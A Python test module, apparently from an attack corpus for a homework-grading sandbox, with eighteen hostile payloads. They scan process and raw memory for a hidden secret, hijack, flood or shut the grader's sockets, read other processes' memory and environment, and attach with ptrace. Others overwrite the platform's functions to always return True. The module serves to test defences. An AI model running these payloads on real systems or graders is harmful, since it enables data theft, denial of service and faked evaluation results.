"""Attacks on the very process that answers the tests, and on the channel between the two."""

from attack_corpus.model import AFTER_FIRST, fraud, harm, misuse

MEMORY = """
import gc, sys
secret = "".join(("CANARI", "_SECRET"))
for objet in gc.get_objects():
    try:
        if type(objet) in (str, dict, list, tuple) and secret in str(objet)[:100000] and objet is not globals():
            if "secret =" not in str(objet):
                print("PRIS dans la mémoire", type(objet))
    except BaseException:
        pass
cadre = sys._getframe()
while cadre:
    for nom, valeur in list(cadre.f_locals.items()):
        if type(valeur).__name__ in ("Job", "Cell"):
            print("PRIS le travail", nom)
    cadre = cadre.f_back
print("TENTE")
"""
RAW_MEMORY = """
secret, vu = b"".join((b"CANARI", b"_SECRET_")), 0
with open("/proc/self/maps") as cartes, open("/proc/self/mem", "rb", 0) as memoire:
    for ligne in cartes:
        debut, fin = (int(x, 16) for x in ligne.split()[0].split("-"))
        if "rw" in ligne and fin - debut < 3 * 10**8:
            try:
                memoire.seek(debut)
                vu += memoire.read(fin - debut).count(secret)
            except (OSError, ValueError):
                pass
# The attack's own source holds no such text: it is put together while it runs.
print("PRIS dans la mémoire brute" if vu > 1 else "TENTE", vu)
"""
SOCKETS = """
import os, socket, stat
trouves = []
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            trouves.append((fd, socket.socket(fileno=os.dup(fd))))
    except OSError:
        pass
"""
STEAL = (
    SOCKETS
    + """
for fd, prise in trouves:
    if prise.type == socket.SOCK_SEQPACKET:
        print("PRIS la prise de commande", fd)
if os.path.isdir("/proc/net") and any("@" in ligne for ligne in open("/proc/net/unix").readlines()[1:]):
    print("PRIS une prise abstraite")
print("TENTE")
"""
)
GARBAGE = (
    SOCKETS
    + """
for charge in (b"\\xff" * 64, b"\\x7f\\xff\\xff\\xff{}", b"\\x00\\x00\\x00\\x02[]", b"\\x00\\x00\\x00\\x00",
               b"\\x00\\x00\\x00\\x04null", b'\\x00\\x00\\x00\\x08{"a":1e9}', b"GET / HTTP/1.1\\r\\n\\r\\n"):
    for fd, prise in trouves:
        try:
            prise.setblocking(False)
            prise.send(charge)
        except OSError:
            pass
print("TENTE")
"""
)
FLOODS = (
    SOCKETS
    + """
import threading
def inonder(prise):
    while True:
        try:
            prise.sendall(b"\\x00\\x00\\x00\\x0c" + b'{"q": "x"}  ')
        except OSError:
            pass
for fd, prise in trouves:
    threading.Thread(target=inonder, args=(prise,), daemon=True).start()
"""
)
READS_AWAY = (
    SOCKETS
    + """
import threading
def voler(prise):
    while True:
        try:
            vu = prise.recv(1 << 16)
            if b"".join((b"CANARI", b"_SECRET")) in vu:
                print("PRIS sur la prise")
        except OSError:
            pass
for fd, prise in trouves:
    threading.Thread(target=voler, args=(prise,), daemon=True).start()
"""
)
CLOSES = "import os\nos.closerange(0, 4096)"
SHUTS = SOCKETS + "for fd, prise in trouves:\n    prise.shutdown(socket.SHUT_RDWR)"
FORKS_AWAY = "import os\nenfant = os.fork()"
EXECUTES = """
import os, sys
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        os.set_inheritable(fd, True)
    except OSError:
        pass
programme = '''
import os, socket, stat, struct
while True:
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                reponse = b'{"same": true}'
                os.read(fd, 1 << 16)
                os.write(fd, struct.pack("!I", len(reponse)) + reponse)
        except OSError:
            pass
'''
os.execv(sys.executable, [sys.executable, "-S", "-c", programme])
"""
WALK = """
import gc, sys, types
touches = 0
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("cpia."):
        for nom, objet in list(vars(module).items()):
            if isinstance(objet, types.FunctionType):
                objet.__code__ = (lambda *_, **__: True).__code__
                touches += 1
            elif isinstance(objet, type) and objet.__module__.startswith("cpia."):
                for methode in list(vars(objet)):
                    if isinstance(vars(objet)[methode], types.FunctionType):
                        setattr(objet, methode, lambda *_, **__: True)
                        touches += 1
"""
DESCENDANTS = """
import ctypes, os
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for nom in ("mem", "environ", "cmdline", "maps", "root/etc/passwd", "cwd", "fd/0"):
        try:
            contenu = open(f"/proc/{pid}/{nom}", "rb").read(10**6)
            if b"".join((b"CANARI", b"_SECRET")) in contenu or b"devoir.ipynb" in contenu:
                print("PRIS", pid, nom)
        except (OSError, ValueError):
            pass
    if ctypes.CDLL(None).ptrace(16, int(pid), 0, 0) == 0:
        print("PRIS ptrace", pid)
print("TENTE")
"""
DESCRIPTORS = (
    SOCKETS
    + """
import array, threading
def envoyer(prise):
    while True:
        lecture, ecriture = os.pipe()
        try:
            droits = array.array("i", [lecture, ecriture, prise.fileno()])
            prise.sendmsg([b"\\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, droits)])
        except OSError:
            pass
        os.close(lecture), os.close(ecriture)
for fd, prise in trouves:
    threading.Thread(target=envoyer, args=(prise,), daemon=True).start()
"""
)
WITH_DESCRIPTORS = """
import array, gc, json, os, socket, struct
canal = next(objet for objet in gc.get_objects() if type(objet).__name__ == "Channel")
def send(trames, message):
    corps = json.dumps(message).encode()
    joints = array.array("i", [os.open("/proc/self/maps", os.O_RDONLY) for _ in range(20)])
    trames._sock.sendmsg([struct.pack("!I", len(corps)) + corps], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, joints)])
    for joint in joints:
        os.close(joint)
type(canal._frames).send = send
"""
OUT_OF_ORDER = """
import gc
canal = next(objet for objet in gc.get_objects() if type(objet).__name__ == "Channel")
vraie = type(canal._frames).send
def send(trames, message):
    for n in range(20):
        vraie(trames, {"r": 1, "n": -n if "q" in message else message["n"] - 1 - n, "x": list(range(50)), "o": []})
    vraie(trames, message)
type(canal._frames).send = send
"""
CRAWLS = """
import gc, struct, time
canal = next(objet for objet in gc.get_objects() if type(objet).__name__ == "Channel")
def send(trames, message):
    trames._sock.sendall(struct.pack("!I", 2**21))
    while True:
        trames._sock.sendall(b" ")
        time.sleep(0.1)
def moyenne(valeurs):
    type(canal._frames).send = send
"""
SIGNALS = """
import os, signal
for numero in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    for cible in (0, -1, os.getpid(), os.getppid()):
        try:
            signal.signal(numero, signal.SIG_IGN)
            os.kill(cible, numero)
        except OSError:
            pass
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
def moyenne(valeurs):
    while True: pass
"""
LOSES_ALL_OR_NOT = {"may_review": True}

ATTACKS = (
    harm("d01-memoire", "searches every object and frame of its process for the hidden tests", MEMORY, tries=True),
    harm("d02-memoire-brute", "searches the raw memory of its process", RAW_MEMORY, tries=True),
    harm("d03-prises", "looks for the fork server's control socket", STEAL, tries=True),
    fraud("d04-ordures", "writes broken frames on every socket", GARBAGE, **LOSES_ALL_OR_NOT),
    fraud("d05-inondation", "floods every socket from a thread", FLOODS, **LOSES_ALL_OR_NOT),
    fraud("d06-vol", "reads the questions of the tests away from the one who answers", READS_AWAY, **LOSES_ALL_OR_NOT),
    fraud("d07-ferme-tout", "closes every descriptor", CLOSES, **LOSES_ALL_OR_NOT),
    fraud("d08-coupe", "shuts every socket down", SHUTS, **LOSES_ALL_OR_NOT),
    fraud("d09-double", "forks, so that two processes answer", FORKS_AWAY, **LOSES_ALL_OR_NOT),
    fraud("d10-remplace", "becomes another program that answers yes", EXECUTES, **LOSES_ALL_OR_NOT),
    fraud("d11-reecrit", "rewrites every function of the platform in its process", WALK, **LOSES_ALL_OR_NOT),
    harm("d12-voisins", "reads, traces and lists every other process", DESCENDANTS, tries=True),
    misuse("d13-copie-du-canal", "a tested function forks and both return", "moyenne",
           "import os\ndef moyenne(valeurs):\n    os.fork()\n    return 1", may_review=True,
           free=AFTER_FIRST),
    fraud("d14-descripteurs", "sends descriptors, the socket itself among them, until the kernel has no more",
          DESCRIPTORS, **LOSES_ALL_OR_NOT),
    harm("d15-descripteurs-joints", "joins twenty descriptors to each right answer", WITH_DESCRIPTORS),
    harm("d16-desordre", "answers old questions twenty times before each new one, and lets go of what it was lent",
         OUT_OF_ORDER, free=("test-appliquer",)),
    misuse("d17-trame-lente", "announces two megabytes, and sends a byte at a time", "moyenne", CRAWLS,
           free=AFTER_FIRST, may_review=True),
    misuse("d18-signaux", "ignores, blocks and sends every signal, then never returns", "moyenne", SIGNALS,
           free=AFTER_FIRST, may_review=True),
)  # fmt: skip
